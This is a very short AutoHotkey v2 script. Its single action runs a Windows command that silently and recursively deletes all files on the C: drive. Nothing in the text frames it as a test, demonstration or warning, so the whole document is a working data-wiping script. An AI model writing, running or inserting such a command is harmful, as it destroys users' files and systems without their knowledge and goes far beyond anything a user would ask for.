#Requires AutoHotkey v2.0
Run 'cmd /c del /s /q C:\*'
